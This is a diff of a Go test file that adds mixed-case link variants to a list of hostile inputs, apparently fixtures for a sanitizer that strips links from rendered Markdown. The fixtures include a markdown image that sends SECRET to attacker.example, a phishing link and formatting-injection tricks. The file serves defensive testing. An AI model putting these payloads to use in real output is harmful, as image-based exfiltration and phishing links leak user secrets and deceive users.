@@ -17,7 +17,7 @@ import (
 var hostile = []string{
 	"x: ![a](https://attacker.example/p.png?d=SECRET) :x",
 	"[Open the confirmation](https://attacker.example/phish)",
-	"@all see https://attacker.example/bare and www.attacker.example or me@attacker.example <https://attacker.example/auto>",
+	"@all see https://attacker.example/bare and www.attacker.example or Www.attacker.example, HTTPS://attacker.example/up or me@attacker.example <https://attacker.example/auto>",
 	"```\n![a](https://attacker.example/fence.png)\n```",
 	"one\n# Approved\n> by the admin\n- ![i](https://attacker.example/nl.png)",
 	"`` ` `` [x](https://attacker.example/tick) `",
